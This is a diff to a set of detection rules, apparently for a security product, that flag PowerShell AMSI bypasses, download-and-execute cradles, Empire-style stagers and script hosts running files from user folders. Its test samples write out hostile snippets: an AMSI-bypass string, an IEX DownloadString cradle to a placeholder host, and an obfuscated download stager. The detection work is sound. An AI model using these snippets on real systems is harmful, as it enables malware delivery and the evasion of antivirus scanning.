@@ -42,14 +42,14 @@ detector 'powershell-empire-amsi-bypass' do
         script_property_includes_any?(property: script_content, strings: ['amsiInitFailed', 'System.Management.Automation.AmsiUtils', 'cachedGroupPolicySettings'])
   fires_on 'in a script block', script(script_content: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")
   fires_on 'on a command line in two pieces', process_start(process_name: 'powershell.exe', command_line: "powershell $a='amsiInitF'+'ailed'")
-  ignores  'a version question', script(script_content: '$PSVersionTable')
+  ignores  'a script about AMSI', script(script_content: 'Get-MpComputerStatus | Select AMServiceEnabled, AmsiProviders')
 end
 
 detector 'powershell-download-cradle' do
   title    'PowerShell downloads and runs'
   severity :high
   attack   'T1059.001', 'T1105'
-  match (process_is_likely?('powershell') || process_is_likely?('pwsh') || process_is_likely?('cmd')) &&
+  match process_is_likely?('powershell', 'pwsh', 'cmd') &&
         process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['net.webclient', 'downloadstring', 'downloaddata', 'downloadfile', 'invoke-webrequest', 'start-bitstransfer', 'iwr ']) &&
         process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['iex', 'invoke-expression', 'start-process', '.invoke(', '| %', '-join'])
   fires_on 'the classic', process_start(process_name: 'powershell.exe', command_line: "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
@@ -157,7 +157,9 @@ detector 'powershell-empire-stager-script' do
   match script_property_includes_all?(property: script_content, strings: ['-bxor', '%256']) ||
         script_property_includes_all?(property: script_content, strings: ['frombase64string', 'headers.add', 'downloaddata'])
   fires_on 'RC4 in one line', script(script_content: '$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$_-bxor$S[1]}')
+  fires_on 'a download with a cookie for a key', script(script_content: "$u=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0'));$w.Headers.Add('Cookie','k=v');$d=$w.DownloadData($u)")
   ignores  'base64 alone', script(script_content: '[Convert]::FromBase64String($a)')
+  ignores  'a checksum', script(script_content: '$c = 0; foreach ($b in $bytes) { $c = $c -bxor $b }')
 end
 
 detector 'office-starts-shell' do
@@ -213,7 +215,7 @@ detector 'script-host-runs-from-user-folder' do
   title    'A script host runs a file that a user could have been sent'
   severity :medium
   attack   'T1059.005', 'T1059.007', 'T1204.002'
-  match (process_is_likely?('wscript') || process_is_likely?('cscript')) &&
+  match process_is_likely?('wscript', 'cscript') &&
         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\\(downloads|appdata\\local\\temp|users\\public|programdata|desktop)\\[^"]*\.(js|jse|vbs|vbe|wsf|sct)\b/i])
   fires_on 'a script in Downloads', process_start(process_name: 'wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\a\Downloads\invoice.js"')
   ignores  'a script of Windows', process_start(process_name: 'cscript.exe', command_line: 'cscript C:\Windows\system32\gatherNetworkInfo.vbs')
